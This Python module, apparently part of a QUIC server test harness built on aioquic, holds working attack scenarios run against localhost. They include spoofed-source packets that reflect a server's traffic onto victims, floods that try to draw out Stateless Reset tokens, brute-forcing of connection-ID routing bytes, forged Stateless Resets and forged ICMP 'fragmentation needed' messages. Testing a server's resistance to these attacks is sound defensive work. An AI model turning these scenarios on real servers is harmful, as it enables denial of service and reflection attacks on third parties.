"""Attacks from addresses that are not the connection's: migration towards a victim, forged routes,
forged Stateless Resets, forged ICMP."""

from __future__ import annotations

import asyncio
import os
import socket
import struct
import time

from aioquic.tls import Epoch

from attack_frames import Scenario
from attacker import Attacker, frame, new_connection_id, stream

# What a victim may get is counted for so long: challenges are repeated within a second.
WATCH_SECONDS = 1.5
PING = b"\x01"


class Elsewhere:
    """Sockets that are not the connection's; they never answer."""

    def __init__(self, address: tuple, hosts: list[str]) -> None:
        self.address = address
        self.sent_bytes = self.received_bytes = 0
        self.received: list[bytes] = []
        self.sockets = []
        for host in hosts:
            one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            one.bind((host, 0))
            one.setblocking(False)
            self.sockets.append(one)

    def put(self, data: bytes, index: int = 0) -> None:
        self.sockets[index % len(self.sockets)].sendto(data, self.address)
        self.sent_bytes += len(data)

    def drain(self) -> None:
        for one in self.sockets:
            while True:
                try:
                    data = one.recv(2048)
                except BlockingIOError:
                    break
                self.received_bytes += len(data)
                self.received.append(data)

    async def until_answered(self, seconds: float) -> None:
        deadline = time.monotonic() + seconds
        while not self.received and time.monotonic() < deadline:
            await asyncio.sleep(0.001)
            self.drain()

    def report(self) -> dict:
        return {"victim_sent": self.sent_bytes, "victim_received": self.received_bytes}

    def close(self) -> None:
        for one in self.sockets:
            one.close()


def acknowledge_all(attacker: Attacker) -> bytes:
    """ACK of the newest run of packets (RFC 9000 §19.3)."""
    newest = list(attacker.quic._spaces[Epoch.ONE_RTT].ack_queue)[-1]
    return frame(0x02, newest.stop - 1, 0, 0, newest.stop - 1 - newest.start)


async def make_the_server_want_to_send(attacker: Attacker) -> None:
    """Far more than a congestion window, of which nothing is acknowledged."""
    await attacker.alive()
    attacker.hush()
    await attacker.send_all(stream(0, 1000 * i, bytes(1000)) for i in range(200))
    await asyncio.sleep(0.1)


def towards_victim(payload_bytes: int, packets: int) -> Scenario:
    """`packets` datagrams that seem to come from somebody else: that is where the answers go."""

    async def run(attacker: Attacker) -> dict:
        await make_the_server_want_to_send(attacker)
        victim = Elsewhere(attacker.address, ["127.0.0.9"])
        for _ in range(packets):
            payload = acknowledge_all(attacker) + PING
            victim.put(attacker.packet(payload.ljust(payload_bytes, b"\0")))
            await asyncio.sleep(0.02)
        await asyncio.sleep(WATCH_SECONDS)
        victim.drain()
        attacker.speak()
        report = {**victim.report(), "alive": await attacker.alive()}
        victim.close()
        return report

    return run


async def many_victims(attacker: Attacker) -> dict:
    """A small datagram from each of 300 addresses."""
    await make_the_server_want_to_send(attacker)
    victims = Elsewhere(attacker.address, [f"127.0.0.{10 + i % 100}" for i in range(300)])
    for i in range(300):
        victims.put(attacker.packet(acknowledge_all(attacker) + PING), i)
        if i % 10 == 9:
            await asyncio.sleep(0.005)
    await asyncio.sleep(WATCH_SECONDS)
    victims.drain()
    attacker.speak()
    report = {**victims.report(), "alive": await attacker.alive()}
    victims.close()
    return report


def known_ids(attacker: Attacker) -> list[bytes]:
    """The server's, of this live connection."""
    return [attacker.quic._peer_cid.cid, *(cid.cid for cid in attacker.quic._peer_cid_available)]


def short_header(cid: bytes, length: int = 100) -> bytes:
    return b"\x41" + cid + os.urandom(length - 1 - len(cid))


def handshake_header(cid: bytes, length: int = 1200) -> bytes:
    head = b"\xe1\0\0\0\1" + bytes([len(cid)]) + cid + b"\x08" + os.urandom(8)
    rest = length - len(head) - 2
    return head + (0x4000 | rest).to_bytes(2, "big") + os.urandom(rest)


async def live_ids_elsewhere(attacker: Attacker) -> dict:
    """Packets that can't be opened, with IDs of a live connection, from other addresses: an answer
    would tell the token that ends it (RFC 9000 §10.3.1, §21.11)."""
    await attacker.alive()
    others = Elsewhere(attacker.address, ["127.0.0.1"] * 16)
    for i in range(2000):
        for cid in known_ids(attacker):
            others.put(short_header(cid, 43 + i % 60), i)
        if i % 8 == 7:
            await asyncio.sleep(0.001)
    await asyncio.sleep(0.1)
    others.drain()
    report = {**others.report(), "alive": await attacker.alive()}
    others.close()
    return report


async def forged_routes(attacker: Attacker) -> dict:
    """Every value of the two bytes that say generation and worker, under a live ID's mask: short
    headers, and Handshake packets for a 16th of them."""
    await attacker.alive()
    cid = bytearray(attacker.quic._peer_cid.cid)
    others = Elsewhere(attacker.address, ["127.0.0.1"] * 16)
    for value in range(1 << 16):
        struct.pack_into("!H", cid, 9, value)
        others.put(short_header(bytes(cid), 60), value)
        if value % 16 == 0:
            others.put(handshake_header(bytes(cid)), value >> 4)
        if value % 64 == 63:
            others.drain()
            await asyncio.sleep(0.001)
        if value % 8192 == 0:
            # Or it would be idle for too long.
            await attacker.alive()
    await asyncio.sleep(0.1)
    others.drain()
    answers = {"answers": len(others.received), "longest": max(map(len, others.received), default=0)}
    report = {**others.report(), **answers, "alive": await attacker.alive()}
    others.close()
    return report


async def forged_resets(attacker: Attacker) -> dict:
    """What looks like a Stateless Reset, with tokens of zeros, of chance, and of another ID of the
    server's own: none is one that this connection gave the server (RFC 9000 §10.3.1)."""
    await attacker.alive()
    # The server is told a token; it belongs to an ID of ours, and nobody else gets it.
    attacker.send(new_connection_id(50, 0, os.urandom(8), os.urandom(16)))
    own = [cid.stateless_reset_token for cid in attacker.quic._peer_cid_available]
    tokens = [bytes(16), b"\xff" * 16, *own, *(os.urandom(16) for _ in range(100))]
    for token in tokens:
        for cid in known_ids(attacker)[:1]:
            attacker.put(short_header(cid, 43) + token)
            attacker.put(short_header(os.urandom(19), 43) + token)
    return {"alive": await attacker.alive()}


async def stale_ids(attacker: Attacker) -> dict:
    """Packets of all lengths with an ID that is no longer anybody's: a Stateless Reset answers, and
    is smaller (RFC 9000 §10.3.3)."""
    await attacker.alive()
    gone = attacker.quic._peer_cid_available.pop(0)
    attacker.send(frame(0x19, gone.sequence_number))
    await attacker.alive()
    others = Elsewhere(attacker.address, ["127.0.0.1"])
    pairs = []
    for length in range(21, 121):
        others.put(short_header(gone.cid, length))
        await others.until_answered(0.3)
        pairs.append([length, *map(len, others.received)])
        others.received.clear()
    others.put(short_header(gone.cid, 60))
    await others.until_answered(0.3)
    token_ok = [data[-16:] == gone.stateless_reset_token for data in others.received] == [True]
    report = {"pairs": pairs, "token_is_the_one_given": token_ok, "alive": await attacker.alive()}
    others.close()
    return report


async def icmp_too_big(attacker: Attacker) -> dict:
    """Forged "fragmentation needed" messages (RFC 1191, RFC 9000 §14.2.1) for this connection; how
    long the server's datagrams are before and after."""
    longest = [0, 0]
    phase = 0
    received = attacker.peer.datagram_received

    def note(data: bytes, address: tuple) -> None:
        longest[phase] = max(longest[phase], len(data))
        received(data, address)

    attacker.peer.datagram_received = note
    await attacker.send_all(stream(0, 1000 * i, bytes(1000)) for i in range(50))
    await asyncio.sleep(0.3)
    phase = 1
    port = attacker.peer._transport.get_extra_info("sockname")[1]
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    raw.connect((attacker.address[0], 0))
    here = raw.getsockname()[0]
    for mtu in (0, 68, 552, 576, 1000, 1199):
        raw.send(too_big(mtu, attacker.address, (here, port)))
    raw.close()
    await attacker.send_all(stream(0, 1000 * i, bytes(1000)) for i in range(50, 100))
    await asyncio.sleep(0.3)
    return {"longest": longest, "alive": await attacker.alive()}


def too_big(mtu: int, server: tuple, client: tuple) -> bytes:
    """It quotes a datagram of the server's to the client."""
    udp = struct.pack("!HHHH", server[1], client[1], 1208, 0)
    ip = struct.pack(
        "!BBHHHBBH4s4s",
        *(0x45, 0, 1228, 1, 0x4000, 64, 17, 0),
        *(socket.inet_aton(server[0]), socket.inet_aton(client[0])),
    )
    body = struct.pack("!BBHHH", 3, 4, 0, 0, mtu) + ip + udp
    return body[:2] + checksum(body) + body[4:]


def checksum(data: bytes) -> bytes:
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return struct.pack("!H", ~total & 0xFFFF)


async def silent(attacker: Attacker) -> dict:
    """Goes without a word: the server has to notice by its idle timeout."""
    await attacker.alive()
    attacker.hush()
    attacker.peer.close = lambda *args: None
    attacker.peer._closed.set()
    return {"alive": True}


SCENARIOS: dict[str, Scenario] = {
    "victim-small": towards_victim(0, 1),
    "victim-full": towards_victim(1150, 1),
    "victim-ten": towards_victim(0, 10),
    "victims": many_victims,
    "live-ids-elsewhere": live_ids_elsewhere,
    "forged-routes": forged_routes,
    "forged-resets": forged_resets,
    "stale-ids": stale_ids,
    "icmp-too-big": icmp_too_big,
    "silent": silent,
}
